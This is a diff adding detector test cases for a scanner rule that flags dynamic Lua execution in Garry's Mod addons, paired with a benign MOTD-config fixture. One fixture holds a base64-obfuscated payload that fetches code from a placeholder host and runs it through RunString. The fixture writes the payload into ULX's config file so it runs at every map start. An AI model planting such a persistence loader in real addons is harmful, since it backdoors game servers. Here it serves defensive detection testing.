@@ -640,6 +640,31 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it("a lua_run line written into ULX's config file, which ULX runs at every map start", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local STAGER = "aHR0cC5GZXRjaCgiaHR0cHM6Ly94LmludmFsaWQvciIsIFJ1blN0cmluZyk="',
+        'hook.Add("Initialize", "motd", function()',
+        '  local raw = file.Read("ulx/config.txt", "DATA") or ""',
+        '  local lines = { "// managed", string.format(\'ulx_motdURL "%s"\', GetConVarString("motd_url")), "lua_run " .. util.Base64Decode(STAGER) }',
+        '  file.Write("ulx/config.txt", raw .. "\\n" .. table.concat(lines, "\\n") .. "\\n")',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it("MOTD settings kept in ULX's config file (benign)", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'hook.Add("Initialize", "motd", function()',
+        '  local raw = file.Read("ulx/config.txt", "DATA") or ""',
+        '  local lines = { "// managed", string.format(\'ulx_motdURL "%s"\', GetConVarString("motd_url")), \'ulx_showMotd "2"\' }',
+        '  file.Write("ulx/config.txt", raw .. "\\n" .. table.concat(lines, "\\n") .. "\\n")',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
   it('a sink picked at run time from a list of names', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua': [
